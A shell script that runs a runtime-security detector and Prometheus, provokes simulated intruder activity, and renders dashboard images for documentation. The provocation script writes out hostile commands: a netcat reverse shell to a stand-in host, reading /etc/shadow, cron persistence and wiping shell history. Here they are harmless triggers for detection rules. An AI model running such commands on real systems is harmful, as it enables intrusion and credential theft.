#!/bin/sh
# Draws the dashboards for the docs: a real ruled watches this machine, a real Prometheus scrapes it, some minutes of alerts
# are provoked, and render.py asks the dashboards' queries. As root, with the right to load eBPF, Debian's prometheus, and a
# python3 with matplotlib:
#
#   deploy/grafana/pictures.sh [RULED]         # MINUTES=3 PYTHON=python3 IMAGES=docs/images FALCO_HOSTNAME=shop-1
set -eu
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
ruled=$(realpath "${1:-$root/target/release/ruled}")
minutes=${MINUTES:-3}
python=${PYTHON:-python3}
images=${IMAGES:-$root/docs/images}
export FALCO_HOSTNAME="${FALCO_HOSTNAME:-shop-1}"
web=18765 exporter=19377 probes=19378 prometheus=19090

work=$(mktemp -d)
running=
trap 'for pid in $running; do kill "$pid" 2> /dev/null || true; done; wait; rm -rf "$work"' EXIT
trap 'exit 1' INT TERM
"$python" -c 'import matplotlib'

# Builds and tests start programs from /tmp; this machine may be busy with them.
cat > "$work/local.yaml" << 'END'
- macro: known_program_in_tmp
  condition: proc.exepath startswith /tmp/
  override: {condition: replace}
END
cat > "$work/falco.yaml" << END
rules_files: [$root/deploy/rules/falco_rules.yaml, $work/local.yaml]
engine: {kind: modern_ebpf}
plugins: [{name: container, library_path: libcontainer.so}]
load_plugins: [container]
json_output: true
stdout_output: {enabled: false}
file_output: {enabled: true, keep_alive: true, filename: $work/alerts.log}
log_stderr: true
log_syslog: false
webserver: {enabled: true, listen_port: $web, prometheus_metrics_enabled: true}
metrics: {enabled: true, interval: 1h, include_empty_values: true}
grpc: {enabled: true, bind_address: 'unix://$work/falco.sock'}
grpc_output: {enabled: true}
exporter: {enabled: true, listen_address: '127.0.0.1:$exporter', probes_listen_address: '127.0.0.1:$probes'}
END
cat > "$work/prometheus.yml" << END
global: {scrape_interval: 2s}
scrape_configs:
- job_name: ruled
  static_configs: [{targets: ['127.0.0.1:$web'], labels: {instance: '$FALCO_HOSTNAME:8765'}}]
- job_name: falco-exporter
  static_configs: [{targets: ['127.0.0.1:$exporter'], labels: {instance: '$FALCO_HOSTNAME:9376'}}]
END
"$ruled" -c "$work/falco.yaml" 2> "$work/ruled.log" &
daemon=$!
running=$daemon
prometheus --config.file="$work/prometheus.yml" --storage.tsdb.path="$work/tsdb" \
    --web.listen-address="127.0.0.1:$prometheus" > "$work/prometheus.log" 2>&1 &
running="$running $!"

tries=0
until "$python" - $web << 'END'; do
import re, sys, urllib.request
try:
    page = urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/metrics", timeout=2).read().decode()
except OSError:
    sys.exit(1)
sys.exit(not re.search(r"^ruled_events_total [1-9]", page, re.M))
END
    tries=$((tries + 1))
    kill -0 $daemon && [ $tries -lt 300 ] || { tail -n 20 "$work/ruled.log" >&2; exit 1; }
    sleep 0.2
done

# What an intruder might do, in waves; everything that is written lies in a file system of its own.
cat > "$work/provoke.sh" << 'END'
mount -t tmpfs tmpfs /usr/local/bin
mount -t tmpfs tmpfs /etc/cron.d
mount -t tmpfs tmpfs /root
mount -t tmpfs tmpfs /var/tmp
cp /bin/true /var/tmp/helper
cp /bin/true /usr/local/bin/nc
second=0
while [ $second -lt "$1" ]; do
    wave=$((second % 60))
    [ $((second % 3)) -ne 0 ] || head -c 1 /etc/shadow > /dev/null
    if [ $wave -gt 20 ] && [ $wave -lt 40 ]; then touch /usr/local/bin/helper /usr/local/bin/other; fi
    if [ $((second % 7)) -eq 0 ] || [ $wave -gt 45 ]; then echo '# job' > /etc/cron.d/job; fi
    if [ $wave -gt 30 ] && [ $wave -lt 50 ]; then /usr/local/bin/nc -e /bin/sh 192.0.2.7 4444; fi
    [ $((second % 4)) -ne 1 ] || /var/tmp/helper
    if [ $wave -gt 10 ] && [ $wave -lt 18 ]; then script -qc 'bash -c true' /dev/null; fi
    if [ $((second % 15)) -eq 5 ]; then echo id > /root/.bash_history; rm /root/.bash_history; fi
    second=$((second + 1))
    sleep 1
done
END
seconds=$(awk "BEGIN { print int($minutes * 60) }")
unshare --mount --propagation private sh "$work/provoke.sh" $((seconds / 2))
kill -HUP $daemon
unshare --mount --propagation private sh "$work/provoke.sh" $((seconds - seconds / 2))

mkdir -p "$images"
for dashboard in ruled events falco-metrics; do
    "$python" "$here/render.py" "$here/$dashboard.json" "$images/grafana-$dashboard.png" \
        --prometheus "http://127.0.0.1:$prometheus" --minutes "$minutes" --scrape 2
done
# The data stay for so many seconds, to try out render.py.
sleep "${KEEP:-0}"
